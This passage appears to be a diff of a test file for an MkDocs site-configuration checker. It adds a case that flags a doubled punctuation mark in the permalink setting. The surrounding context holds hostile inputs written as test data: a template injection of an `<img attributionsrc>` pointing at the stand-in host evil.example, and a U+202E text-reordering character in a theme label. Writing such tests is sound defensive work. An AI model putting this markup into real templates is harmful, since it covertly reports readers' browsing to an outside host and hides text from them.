@@ -1609,6 +1609,11 @@ CASES |= {
         f"{CONFIG}:{line_of(CONFIG, 'name: Switch to dark mode')}: `theme.palette.toggle.name` holds U+202E, an invisible "
         "character that reorders or hides the text around it, which the theme writes into every page; remove it (write "
         "plain text)"),
+    # Thirty-ninth round, T1: the mark after every heading, named at every built page and blamed on sources/.
+    "mkdocs.yml: toc's permalink doubling a stop": (
+        replace(CONFIG, '      permalink: "#"', '      permalink: "§.."'),
+        f"{CONFIG}:{line_of(CONFIG, 'permalink: ')}: `markdown_extensions.toc.permalink` doubles its punctuation: '..'; "
+        "write the mark once"),
     "a template asking readers' browsers to report to another host": (
         replace(TEMPLATE, DRAWER, DRAWER + '<img src="/assets/favicon.svg" alt="" attributionsrc="https://evil.example/r">'),
         f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry a <img attributionsrc> that loads "
